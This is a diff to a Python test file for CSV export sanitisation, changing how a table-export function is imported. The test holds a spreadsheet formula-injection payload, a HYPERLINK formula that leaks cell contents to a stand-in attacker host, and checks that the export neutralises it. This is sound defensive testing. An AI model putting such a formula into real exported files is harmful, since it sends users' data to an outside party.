@@ -14,9 +14,11 @@ import pandas as pd
 import pytest
 import streamlit
 
-from core import comparison, schema, sources
+from core import schema, sources
 from core import suites as S
+from core.comparison.exports import table_to_csv
 from core.safe_csv import FORMULA_TRIGGERS, neutralise, to_csv_bytes, write_csv
+
 
 ROOT = Path(__file__).resolve().parents[1]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
@@ -72,7 +74,7 @@ def test_missing_values_stay_empty(tmp_path):
 
 def test_comparison_tables_export_inert_model_names():
     table = pd.DataFrame({"r2": [0.14, -0.02]}, index=pd.Index([HYPERLINK, "Linear Regression"], name="model"))
-    data = comparison.table_to_csv(table)
+    data = table_to_csv(table)
     _assert_inert(data)
     assert "'" + HYPERLINK in _cells(data) and "-0.02" in _cells(data)
 
